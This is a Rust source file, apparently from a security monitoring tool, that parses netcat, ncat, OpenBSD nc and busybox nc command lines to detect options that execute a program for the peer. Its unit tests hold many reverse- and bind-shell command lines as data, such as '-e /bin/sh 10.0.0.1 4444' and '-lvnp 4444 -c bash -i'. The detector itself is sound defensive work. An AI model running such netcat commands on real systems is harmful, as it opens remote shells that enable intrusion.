//! What a netcat command line does, parsed with each implementation's own getopt grammar.
//!
//! Every implementation parses argv with glibc `getopt` (ncat with `getopt_long`), so:
//! short options cluster (`-nv`); an option that takes an argument takes the rest of its
//! cluster or else the next token (`-e/bin/sh`, `-nve/bin/sh`, `-e /bin/sh`); `--` ends the
//! options; and options may follow the operands (`nc host 4444 -e /bin/sh`: glibc permutes).
//! Tokens are matched as tokens, never as substrings, so a host named `app-engine` or `host-e`
//! is an operand, and a value such as `-w -e` is the value of `-w`.
//!
//! Option letters and which take a value come from the getopt strings in the real binaries
//! (Debian 12): netcat-traditional 1.10-47 `abc:e:g:G:hi:klno:p:q:rs:T:tuvw:zC`; OpenBSD
//! netcat 1.219 `46bCDdFhI:i:klM:m:NnO:P:p:q:rSs:T:tUuV:vW:w:X:x:Zz` (no `-e`, no `-c`: it
//! cannot run a program); ncat 7.93 `46UCc:e:g:G:i:km:hp:d:lo:x:ts:uvw:nz` plus its long
//! options; busybox 1.35 `nc` `lp:w:i:f:e:`.
//!
//! A token that looks like an option is an option, exactly as for the tool: `nc -e.example.com
//! 80` makes traditional netcat run `.example.com`, so it is reported; a host whose name starts
//! with `-` can only be given after `--` (`nc -- -e.example.com 80`), which is not an exec.
//! Options the tool does not know are skipped as flags (the tool itself would print usage and
//! exit); an exec option is reported even when the rest of the command line would make the tool
//! fail, since the intent is what matters.

use serde::Serialize;

use crate::{detect::tools::NetcatFlavor, event::RawStr};

/// An option that makes netcat run a program for its peer.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct NetcatExec {
    /// The option as the tool knows it: `-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`,
    /// `--lua-exec-internal` (long options are reported by full name even when abbreviated on
    /// the command line, as `getopt_long` allows: `--sh` is `--sh-exec`).
    pub option: String,
    /// The program or command given (busybox: the program and all its arguments).
    pub program: String,
}

/// What a netcat command line does.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct NetcatCommand {
    /// A program run for the peer (the last one given wins, as in the tools).
    pub exec: Option<NetcatExec>,
    /// Listen mode (`-l`; ncat also `--listen`, `--broker`, `--chat`).
    pub listen: bool,
    /// Zero-I/O scan mode (`-z`).
    pub scan_only: bool,
    /// UDP instead of TCP (`-u`, ncat `--udp`).
    pub udp: bool,
    /// First operand: the host to connect to (in listen mode, a bind address or filter).
    pub host: Option<String>,
    /// Second operand: the port (or port range). In listen mode a lone operand is the port for
    /// OpenBSD netcat and ncat; otherwise the `-p` value is used when no port operand is given.
    pub port: Option<String>,
}

impl NetcatCommand {
    /// The peer the command line names: where it connects, or (listen mode) where it listens.
    pub fn peer(&self) -> Option<super::Peer> {
        let proto = if self.udp { crate::event::SocketProto::Udp } else { crate::event::SocketProto::Tcp };
        let port = self.port.as_deref().and_then(|p| p.trim().parse::<u16>().ok());
        super::Peer::new(self.host.clone().unwrap_or_default(), port, proto, self.listen)
    }
}

/// A long option of ncat: name, takes a value, and what `getopt_long` compares to decide
/// whether two abbreviation matches are the same option (its `flag`/`val`).
struct LongOpt {
    name: &'static str,
    has_arg: bool,
    ident: u16,
}

const fn lo(name: &'static str, has_arg: bool, ident: u16) -> LongOpt {
    LongOpt { name, has_arg, ident }
}

/// ncat 7.93's long options in table order (order decides equal abbreviation matches).
/// `ident`: the short letter, 0 for long-only options, 1000+ for options that set a flag.
const NCAT_LONG: &[LongOpt] = &[
    lo("4", false, b'4' as u16),
    lo("6", false, b'6' as u16),
    lo("unixsock", false, b'U' as u16),
    lo("vsock", false, 0),
    lo("crlf", false, b'C' as u16),
    lo("g", true, b'g' as u16),
    lo("G", true, b'G' as u16),
    lo("exec", true, b'e' as u16),
    lo("sh-exec", true, b'c' as u16),
    lo("lua-exec", true, 0),
    lo("lua-exec-internal", true, 0),
    lo("max-conns", true, b'm' as u16),
    lo("help", false, b'h' as u16),
    lo("delay", true, b'd' as u16),
    lo("listen", false, b'l' as u16),
    lo("output", true, b'o' as u16),
    lo("hex-dump", true, b'x' as u16),
    lo("append-output", false, 0),
    lo("idle-timeout", true, b'i' as u16),
    lo("keep-open", false, b'k' as u16),
    lo("recv-only", false, 1001),
    lo("source-port", true, b'p' as u16),
    lo("source", true, b's' as u16),
    lo("send-only", false, 1002),
    lo("no-shutdown", false, 1003),
    lo("broker", false, 0),
    lo("chat", false, 0),
    lo("talk", false, 0),
    lo("deny", true, 0),
    lo("denyfile", true, 0),
    lo("allow", true, 0),
    lo("allowfile", true, 0),
    lo("telnet", false, b't' as u16),
    lo("udp", false, b'u' as u16),
    lo("sctp", false, 0),
    lo("version", false, 0),
    lo("verbose", false, b'v' as u16),
    lo("wait", true, b'w' as u16),
    lo("nodns", false, b'n' as u16),
    lo("proxy", true, 0),
    lo("proxy-type", true, 0),
    lo("proxy-auth", true, 0),
    lo("proxy-dns", true, 0),
    lo("nsock-engine", true, 0),
    lo("test", false, 0),
    lo("ssl", false, 1004),
    lo("ssl-cert", true, 0),
    lo("ssl-key", true, 0),
    lo("ssl-verify", false, 0),
    lo("ssl-trustfile", true, 0),
    lo("ssl-ciphers", true, 0),
    lo("ssl-servername", true, 0),
    lo("ssl-alpn", true, 0),
];

/// glibc `getopt_long` lookup: an exact name, else an unambiguous abbreviation. Several
/// abbreviation matches are one option when they agree on value-taking and `flag`/`val`
/// (the first in table order is used: `--lua` is `--lua-exec`, `--pr` is `--proxy`); otherwise
/// the abbreviation is ambiguous (`--s`, `--l`, `--d`) and the tool exits.
fn ncat_long(name: &[u8]) -> Option<&'static LongOpt> {
    if name.is_empty() {
        return None;
    }
    if let Some(o) = NCAT_LONG.iter().find(|o| o.name.as_bytes() == name) {
        return Some(o);
    }
    let mut found: Option<&'static LongOpt> = None;
    for o in NCAT_LONG.iter().filter(|o| o.name.as_bytes().starts_with(name)) {
        match found {
            None => found = Some(o),
            Some(f) if f.has_arg != o.has_arg || f.ident != o.ident => return None,
            Some(_) => {}
        }
    }
    found
}

/// One flavor's grammar.
struct Grammar {
    /// Short options that take a value.
    with_arg: &'static [u8],
    /// Short options that run a program (`-e`, `-c`).
    exec: &'static [u8],
    /// ncat long options.
    long: bool,
    /// busybox `-e PROG ARGS...`: everything after `-e` belongs to the program.
    rest_is_program: bool,
    /// In listen mode a lone operand is the port (OpenBSD, ncat), not a host.
    listen_operand_is_port: bool,
}

fn grammar(flavor: NetcatFlavor) -> Grammar {
    match flavor {
        NetcatFlavor::Traditional => Grammar {
            with_arg: b"cegGiopqsTw",
            exec: b"ce",
            long: false,
            rest_is_program: false,
            listen_operand_is_port: false,
        },
        NetcatFlavor::OpenBsd => Grammar {
            with_arg: b"IiMmOPpqsTVWwXx",
            exec: b"",
            long: false,
            rest_is_program: false,
            listen_operand_is_port: true,
        },
        NetcatFlavor::Ncat => Grammar {
            with_arg: b"ceGgimpdoxsw",
            exec: b"ce",
            long: true,
            rest_is_program: false,
            listen_operand_is_port: true,
        },
        NetcatFlavor::Busybox => Grammar {
            with_arg: b"pwife",
            exec: b"e",
            long: false,
            rest_is_program: true,
            listen_operand_is_port: false,
        },
        // The union of the value-taking letters of every flavor, so that no value is ever
        // parsed as an option, with traditional/ncat exec rules. (`-d` takes a value as in
        // ncat: `nc -d -e x` does not exec in ncat, and is an error in traditional netcat.)
        NetcatFlavor::Unknown => Grammar {
            with_arg: b"cegGiopqsTwIMmOPVWXxd",
            exec: b"ce",
            long: true,
            rest_is_program: false,
            listen_operand_is_port: true,
        },
    }
}

fn lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Parse a netcat command line. `args` are the program's own arguments: `argv[args_from..]`
/// (after the applet for `busybox nc ...`).
pub fn parse(flavor: NetcatFlavor, args: &[RawStr]) -> NetcatCommand {
    let g = grammar(flavor);
    let mut out = NetcatCommand::default();
    let mut operands: Vec<&[u8]> = Vec::new();
    let mut local_port: Option<&[u8]> = None;
    let mut i = 0;
    let mut options_done = false;
    'tokens: while let Some(tok) = args.get(i) {
        let a = tok.as_bytes();
        i += 1;
        if options_done || a.len() < 2 || a[0] != b'-' {
            operands.push(a);
            continue;
        }
        if a == b"--" {
            options_done = true;
            continue;
        }
        if g.long && a[1] == b'-' {
            let body = &a[2..];
            let (name, inline) = match body.iter().position(|&b| b == b'=') {
                Some(eq) => (&body[..eq], Some(&body[eq + 1..])),
                None => (body, None),
            };
            let Some(opt) = ncat_long(name) else { continue };
            let value = match (opt.has_arg, inline) {
                (false, _) => None,
                (true, Some(v)) => Some(v),
                (true, None) => {
                    let v = args.get(i).map(|t| t.as_bytes());
                    i += 1;
                    v
                }
            };
            match (opt.name, value) {
                ("exec" | "sh-exec" | "lua-exec" | "lua-exec-internal", Some(v)) => {
                    out.exec =
                        Some(NetcatExec { option: format!("--{}", opt.name), program: lossy(v) });
                }
                ("listen" | "broker" | "chat" | "talk", _) => out.listen = true,
                ("udp", _) => out.udp = true,
                ("source-port", Some(v)) => local_port = Some(v),
                _ => {}
            }
            continue;
        }
        // A cluster of short options.
        let mut j = 1;
        while let Some(&c) = a.get(j) {
            j += 1;
            if !g.with_arg.contains(&c) {
                match c {
                    b'l' => out.listen = true,
                    b'z' => out.scan_only = true,
                    b'u' => out.udp = true,
                    _ => {}
                }
                continue;
            }
            let value: &[u8] = if j < a.len() {
                &a[j..]
            } else if let Some(next) = args.get(i) {
                i += 1;
                next.as_bytes()
            } else {
                break 'tokens; // missing value: the tool reports an error
            };
            if g.exec.contains(&c) {
                let mut program = lossy(value);
                if g.rest_is_program {
                    for t in &args[i..] {
                        program.push(' ');
                        program.push_str(&t.to_str_lossy());
                    }
                    i = args.len();
                }
                out.exec = Some(NetcatExec { option: format!("-{}", c as char), program });
            } else if c == b'p' {
                local_port = Some(value);
            }
            break; // the value ends the cluster
        }
    }
    let mut ops = operands.into_iter();
    match (ops.next(), ops.next()) {
        (Some(h), Some(p)) => {
            out.host = Some(lossy(h));
            out.port = Some(lossy(p));
        }
        (Some(one), None) if out.listen && g.listen_operand_is_port => out.port = Some(lossy(one)),
        (Some(h), None) => out.host = Some(lossy(h)),
        (None, _) => {}
    }
    if out.port.is_none() && out.listen {
        out.port = local_port.map(lossy);
    }
    out
}

#[cfg(test)]
#[rustfmt::skip]
mod tests {
    use super::*;
    use NetcatFlavor::*;

    fn run(flavor: NetcatFlavor, line: &[&str]) -> NetcatCommand {
        let args: Vec<RawStr> = line.iter().map(|a| RawStr::from(*a)).collect();
        parse(flavor, &args)
    }

    fn exec_of(flavor: NetcatFlavor, line: &[&str]) -> Option<(String, String)> {
        run(flavor, line).exec.map(|e| (e.option, e.program))
    }

    #[test]
    fn no_exec() {
        let cases: &[(NetcatFlavor, &[&str])] = &[
            (Unknown, &["-z", "host", "80"]),
            (Traditional, &["-z", "host", "80"]),
            (Unknown, &["-w", "5", "app-engine", "8080"]),
            (Traditional, &["-w", "5", "application-engine", "8080"]),
            (Unknown, &["-q", "1", "some-endpoint", "3000"]),
            (Traditional, &["-q", "1", "some-endpoint", "3000"]),
            (Unknown, &["-w", "1", "host-e", "8080"]),
            (Traditional, &["-w", "1", "host-e", "8080"]),
            (Unknown, &["-l", "4444"]),
            (Traditional, &["-l", "-p", "4444"]),
            (Ncat, &["-l", "8080", "--keep-open"]),
            (OpenBsd, &["-X", "connect", "-x", "proxy:8080", "host", "22"]),
            (Unknown, &["-X", "connect", "-x", "proxy:8080", "host", "22"]),
            (Unknown, &["-v", "-w2", "server-c", "443"]),
            (Traditional, &["-v", "-w2", "server-c", "443"]),
            (Ncat, &["-v", "-w2", "server-c", "443"]),
            // A host starting with '-' can only follow `--`.
            (Traditional, &["--", "-e.example.com", "80"]),
            (Traditional, &["h", "80", "--", "-e", "/bin/sh"]),
            (Ncat, &["--", "-c.example.com", "80"]),
            // Values of options that take one are never options.
            (Traditional, &["-w", "-e", "h", "80"]),
            (Ncat, &["--proxy", "-e", "h", "80"]),
            (Ncat, &["--proxy-type=socks5", "--proxy", "p:1080", "h", "22"]),
            (Ncat, &["-d", "-e", "h", "80"]),
            (Unknown, &["-d", "-e", "h", "80"]),
            (Ncat, &["--ssl-servername", "-e", "h", "443"]),
            // OpenBSD netcat has no exec option at all (its -e/-c are invalid options).
            (OpenBsd, &["-e", "/bin/sh", "h", "4444"]),
            (OpenBsd, &["-c", "sh", "h", "4444"]),
            (OpenBsd, &["-lvnp", "4444"]),
            // Ambiguous ncat abbreviation: ncat exits.
            (Ncat, &["--s", "/bin/sh", "h", "1"]),
            // Busybox has no -c.
            (Busybox, &["-c", "sh", "h", "1"]),
            (Busybox, &["-w", "5", "db-exec", "5432"]),
            (Unknown, &["h", "1", "-e"]),
            (Unknown, &[]),
            (Unknown, &["-"]),
        ];
        for (flavor, line) in cases {
            assert_eq!(exec_of(*flavor, line), None, "{flavor:?} {line:?}");
        }
    }

    #[test]
    fn exec() {
        let cases: &[(NetcatFlavor, &[&str], &str, &str)] = &[
            (Traditional, &["-e", "/bin/sh", "10.0.0.1", "4444"], "-e", "/bin/sh"),
            (Unknown, &["-e/bin/sh", "h", "p"], "-e", "/bin/sh"),
            (Traditional, &["-nve/bin/sh", "h", "p"], "-e", "/bin/sh"),
            (Unknown, &["-nve/bin/sh", "h", "p"], "-e", "/bin/sh"),
            (Unknown, &["-nv", "-e", "/bin/bash", "h", "p"], "-e", "/bin/bash"),
            (Traditional, &["-nve", "/bin/bash", "h", "p"], "-e", "/bin/bash"),
            (Traditional, &["h", "p", "-e", "/bin/sh"], "-e", "/bin/sh"),
            (Unknown, &["h", "p", "-e", "/bin/sh"], "-e", "/bin/sh"),
            (Traditional, &["-c", "sh -i", "h", "p"], "-c", "sh -i"),
            (Unknown, &["-c", "sh -i", "h", "p"], "-c", "sh -i"),
            (Traditional, &["-lvp", "4444", "-e", "/bin/sh"], "-e", "/bin/sh"),
            (Unknown, &["-lvp", "4444", "-e", "/bin/sh"], "-e", "/bin/sh"),
            (Ncat, &["--sh-exec", "/bin/sh", "h", "p"], "--sh-exec", "/bin/sh"),
            (Ncat, &["--exec=/bin/bash", "h", "p"], "--exec", "/bin/bash"),
            (Ncat, &["--exec", "/bin/bash", "h", "p"], "--exec", "/bin/bash"),
            (Ncat, &["-e", "/bin/sh", "h", "p"], "-e", "/bin/sh"),
            (Ncat, &["--lua-exec", "x.lua", "h", "p"], "--lua-exec", "x.lua"),
            (Ncat, &["--lua-exec-internal", "x.lua", "h", "p"], "--lua-exec-internal", "x.lua"),
            (Ncat, &["-c", "id", "h", "p"], "-c", "id"),
            (Ncat, &["-lvnp", "4444", "-c", "bash -i"], "-c", "bash -i"),
            (Ncat, &["h", "p", "--sh-exec=bash -i"], "--sh-exec", "bash -i"),
            // getopt_long abbreviations (verified against ncat 7.93).
            (Ncat, &["--sh", "echo PWNED", "h", "p"], "--sh-exec", "echo PWNED"),
            (Ncat, &["h", "p", "--ex=/tmp/x"], "--exec", "/tmp/x"),
            (Ncat, &["--e", "/tmp/x", "h", "p"], "--exec", "/tmp/x"),
            (Ncat, &["--lua", "x.lua", "h", "p"], "--lua-exec", "x.lua"),
            (Ncat, &["--lua-exec-", "x.lua", "h", "p"], "--lua-exec-internal", "x.lua"),
            (Unknown, &["--sh-exec", "/bin/sh", "h", "p"], "--sh-exec", "/bin/sh"),
            (Unknown, &["--exec=/bin/sh", "h", "p"], "--exec", "/bin/sh"),
            // An option-looking host is an option: traditional netcat runs ".example.com".
            (Traditional, &["-e.example.com", "80"], "-e", ".example.com"),
            // Busybox: everything after -e is the program (verified against busybox 1.35).
            (Busybox, &["h", "p", "-e", "/bin/sh"], "-e", "/bin/sh"),
            (Busybox, &["h", "p", "-e", "/bin/sh", "-i", "x"], "-e", "/bin/sh -i x"),
            (Busybox, &["-lp", "4444", "-e", "/bin/sh"], "-e", "/bin/sh"),
            (Busybox, &["-lp4444", "-e/bin/sh"], "-e", "/bin/sh"),
            (Busybox, &["-w", "2", "h", "p", "-e", "sh"], "-e", "sh"),
            // busybox takes "h p" as arguments of sh and then, lacking a host, prints usage;
            // the attempt is still reported.
            (Busybox, &["-e", "sh", "h", "p"], "-e", "sh h p"),
            // The last exec option wins, as in the tools.
            (Traditional, &["-c", "id", "-e", "/bin/sh", "h", "p"], "-e", "/bin/sh"),
        ];
        for (flavor, line, opt, prog) in cases {
            assert_eq!(
                exec_of(*flavor, line),
                Some((opt.to_string(), prog.to_string())),
                "{flavor:?} {line:?}"
            );
        }
        // `-lvpe4444 /bin/sh`: `p` takes the rest of the cluster ("e4444"): no exec.
        assert_eq!(exec_of(Traditional, &["-lvpe4444", "/bin/sh"]), None);
    }

    #[test]
    fn operands_and_modes() {
        let c = run(Traditional, &["-nv", "10.0.0.1", "4444", "-e", "/bin/sh"]);
        assert_eq!((c.host.as_deref(), c.port.as_deref(), c.listen), (Some("10.0.0.1"), Some("4444"), false));
        let c = run(Traditional, &["-lvnp", "4444", "-e", "/bin/sh"]);
        assert_eq!((c.host, c.port.as_deref(), c.listen), (None, Some("4444"), true));
        let c = run(Ncat, &["-l", "8080", "--keep-open"]);
        assert_eq!((c.host, c.port.as_deref(), c.listen), (None, Some("8080"), true));
        let c = run(OpenBsd, &["-l", "4444"]);
        assert_eq!((c.host, c.port.as_deref(), c.listen), (None, Some("4444"), true));
        let c = run(Ncat, &["--listen", "--source-port", "9000"]);
        assert_eq!((c.port.as_deref(), c.listen), (Some("9000"), true));
        let c = run(Ncat, &["--broker", "--chat"]);
        assert!(c.listen);
        let c = run(Unknown, &["-zv", "db", "5432"]);
        assert_eq!((c.scan_only, c.host.as_deref(), c.port.as_deref()), (true, Some("db"), Some("5432")));
        let c = run(Unknown, &["-w", "5", "app-engine", "8080"]);
        assert_eq!((c.host.as_deref(), c.port.as_deref()), (Some("app-engine"), Some("8080")));
        let c = run(Busybox, &["h", "p", "-e", "/bin/sh", "x"]);
        assert_eq!((c.host.as_deref(), c.port.as_deref()), (Some("h"), Some("p")));
        let c = run(Busybox, &["-e", "sh", "h", "p"]);
        assert_eq!((c.host, c.port), (None, None));
        // A connect-mode -p is the local source port, not the peer's.
        let c = run(Traditional, &["-p", "5555", "h", "80"]);
        assert_eq!(c.port.as_deref(), Some("80"));
        let c = run(Traditional, &["-p", "5555", "h"]);
        assert_eq!(c.port, None);
        // Non-UTF-8 bytes survive lossily.
        let c = parse(Traditional, &[RawStr::from(&b"-e"[..]), RawStr::from(vec![b'/', 0xff])]);
        assert_eq!(c.exec.map(|e| e.program), Some("/\u{fffd}".to_string()));
    }

    #[test]
    fn long_option_lookup() {
        let name = |s: &str| ncat_long(s.as_bytes()).map(|o| o.name);
        assert_eq!(name("exec"), Some("exec"));
        assert_eq!(name("sh"), Some("sh-exec"));
        assert_eq!(name("source"), Some("source"));
        assert_eq!(name("so"), None);
        assert_eq!(name("ss"), None);
        assert_eq!(name("ssl"), Some("ssl"));
        assert_eq!(name("ssl-c"), Some("ssl-cert"));
        assert_eq!(name("pr"), Some("proxy"));
        assert_eq!(name("l"), None);
        assert_eq!(name("den"), Some("deny"));
        assert_eq!(name("ve"), None);
        assert_eq!(name("zz"), None);
        assert_eq!(name(""), None);
    }
}
